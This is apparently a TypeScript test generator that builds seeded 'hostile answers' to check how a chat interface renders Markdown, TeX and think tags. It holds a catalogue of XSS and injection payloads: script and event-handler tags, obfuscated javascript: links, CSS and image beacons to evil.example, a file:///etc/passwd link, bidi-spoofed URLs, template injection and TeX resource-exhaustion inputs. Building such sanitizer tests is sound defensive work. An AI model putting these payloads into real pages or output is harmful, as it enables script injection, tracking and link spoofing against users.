// Answers that try to run or load something, or to look like what they are not: payloads of the usual collections in the
// places that Markdown, code, TeX and thoughts have for them, cut and nested as the seed says. The same seed gives the same.

import { uniformAt } from "../reference/uniform.ts";

const beacon = "https://evil.example/x";
const script = "globalThis.pwned=1";

const payloads = [
  `<script>${script}</script>`,
  `<script src="${beacon}.js"></script>`,
  `<img src=x onerror="${script}">`,
  `<img src="${beacon}.png">`,
  `<svg onload="${script}"><animate onbegin="${script}" attributeName=x dur=1s></svg>`,
  `<svg><script>${script}</script><use href="data:image/svg+xml,<svg id=x onload=${script}>#x"/></svg>`,
  `<math><maction actiontype="statusline#${beacon}" xlink:href="javascript:${script}">x</maction></math>`,
  `<math href="javascript:${script}"><mtext><img src=x onerror="${script}"></mtext></math>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<object data="${beacon}"></object><embed src="${beacon}">`,
  `<form action="${beacon}"><button formaction="javascript:${script}">x</button></form>`,
  `<style>@import "${beacon}.css"; *{background:url(${beacon})}</style>`,
  `<p style="background:url(${beacon});position:fixed;inset:0">x</p>`,
  `<link rel=stylesheet href="${beacon}.css"><meta http-equiv=refresh content="0;url=${beacon}">`,
  `<base href="${beacon}/"><details open ontoggle="${script}">x</details>`,
  `<video poster="${beacon}" src=x onerror="${script}"></video><audio autoplay src="${beacon}"></audio>`,
  `<body onload="${script}"><input autofocus onfocus="${script}">`,
  `<a href="javascript:${script}" onclick="${script}">x</a>`,
  `<pronk-chat model="${beacon}"></pronk-chat><slot name=x></slot><template shadowrootmode=open></template>`,
  `<!--><img src=x onerror="${script}">--><![CDATA[<script>${script}</script>]]>`,
  `[x](javascript:${script})`,
  `[x](JaVaScRiPt:${script})`,
  `[x](java&#115;cript&colon;${script})`,
  `[x](\u0001javascript:${script})`,
  `[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)`,
  `[x](vbscript:${script}) [y](file:///etc/passwd) [z](blob:${beacon})`,
  `[x](//evil.example/x) [y](/absolute) [z](?query) [w](#hash)`,
  `[x](https://a.b/" onmouseover="${script})`,
  `[x]: javascript:${script}\n\n[x] and ![x]`,
  `<javascript:${script}> <data:text/html,${script}>`,
  `![x](${beacon}.png) ![x](data:image/svg+xml,<svg/onload=${script}>)`,
  `![x](${beacon}.png "a" onerror="${script}")`,
  `$\\href{javascript:${script}}{x}$`,
  `$$\\includegraphics{${beacon}}$$`,
  `\\(\\class{x}{\\style{background:url(${beacon})}{y}}\\)`,
  `$\\data{onclick=${script}}{x} \\id{x}{y}$`,
  `$\\text{<img src=x onerror="${script}">}$`,
  `$$\\def\\a{\\a\\a}\\a$$`,
  `\\[\\rule{99999em}{99999em} \\hspace{1e9em} \\color{url(${beacon})} x\\]`,
  `$\\ce{<script>${script}</script>}$ $\\unicode{<b>}$ $\\ref{javascript:x}$`,
  "\u202e\u2066tpircs\u2069\u202c \u202dx\u200f\u2067y",
  `[\u202egro.knab//:sptth\u202c](https://evil.example/)`,
  "\u0000\ufeff\u2028\u2029\ud800 \udfff\u0007\u001b[31m",
  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L".repeat(4),
  `<think>${script}</think><script>${script}</script>`,
  `{{constructor.constructor('${script}')()}} \${${script}} <%= ${script} %>`,
];

const languages = ["js", "html", "svg", "mermaid", "css", "php", '" onload="x', "constructor", "__proto__", "md"];

type Wrap = (inner: string, roll: (sides: number) => number) => string;
const places: Wrap[] = [
  (inner) => inner,
  (inner) => `words ${inner} words`,
  (inner) => `**${inner}** _${inner}_`,
  (inner) => `# ${inner}`,
  (inner) => `> ${inner.replaceAll("\n", "\n> ")}`,
  (inner) => `- ${inner.replaceAll("\n", "\n  ")}\n- [x] ${inner.replaceAll("\n", " ")}`,
  (inner) => `| a | b |\n|---|---|\n| ${inner.replaceAll("\n", " ")} | x |`,
  (inner) => `[${inner}](https://example.org/)`,
  (inner) => `![${inner}](javascript:x)`,
  (inner) => `\`${inner}\``,
  (inner, roll) => `\`\`\`${languages[roll(languages.length)]}\n${inner}\n\`\`\``,
  (inner) => `$${inner}$`,
  (inner) => `$$\n${inner}\n$$`,
  (inner) => `\\(\\text{${inner}}\\)`,
  (inner) => `x[^1]\n\n[^1]: ${inner}`,
  (inner) => `<think>\n${inner}`,
  (inner) => `<think>${inner}</think>${inner}`,
  (inner) => `<details><summary>${inner}</summary>\n\n${inner}\n\n</details>`,
  (inner, roll) => ["> ", "- ", "**", "[", "<b>", "$", "\\(\\sqrt{"][roll(7)].repeat(1 + roll(400)) + inner,
];

export function hostileAnswers(count: number, seed: number): string[] {
  return Array.from({ length: count }, (_, index) => {
    let drawn = index * 64;
    const roll = (sides: number) => Math.floor(uniformAt(seed, drawn++) * sides);
    const parts = Array.from({ length: 1 + roll(3) }, () => {
      let text = payloads[roll(payloads.length)];
      for (let depth = roll(3); depth >= 0; depth--) text = places[roll(places.length)](text, roll);
      return roll(8) === 0 ? text.slice(0, roll(text.length)) : text; // an answer may end anywhere
    });
    return parts.join(roll(2) ? "\n\n" : " ");
  });
}
